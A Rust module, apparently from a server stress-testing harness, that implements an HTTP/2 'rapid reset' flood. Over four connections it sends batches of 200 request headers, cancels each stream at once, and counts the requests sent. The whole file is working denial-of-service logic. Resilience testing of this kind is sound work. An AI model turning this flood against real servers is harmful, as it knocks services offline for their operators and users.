use crate::crowd::{PATIENCE, crowd, flood, renew};
use crate::frames::{self, END_HEADERS};
use crate::round::{Kind, Round};

const CONNECTIONS: usize = 4;
const BYTES_MAX: usize = 64 << 20;
/// How many requests are sent at a time.
const REQUESTS: u32 = 200;

/// Requests that are cancelled at once ("rapid reset"): none of them counts as open, and each costs
/// the server something.
pub(super) fn run(round: &mut Round) -> Result<(), String> {
    let mut endpoint = round.endpoint(Kind::Memory)?;
    let requests = endpoint.requests;
    let block = frames::request_block(&requests, "ListTables");
    let mut sent = 0;
    round.attack_endpoint(&mut endpoint, |until| {
        let floods = crowd(CONNECTIONS, |index| {
            renew(until, || {
                let connection = frames::open(requests.address, &[], PATIENCE)?;
                let mut stream = 1;
                flood(connection, index % 2 == 0, BYTES_MAX, until, || {
                    let mut frames = Vec::new();
                    for _ in 0..REQUESTS {
                        frames.extend(frames::headers(stream, &block, END_HEADERS));
                        frames.extend(frames::rst_stream(stream));
                        stream += 2;
                    }
                    frames
                })
            })
        });
        sent = floods.into_iter().sum();
        Ok(())
    })?;
    round.note(format!("{} requests", sent / (9 + block.len() + 13)));
    Ok(())
}
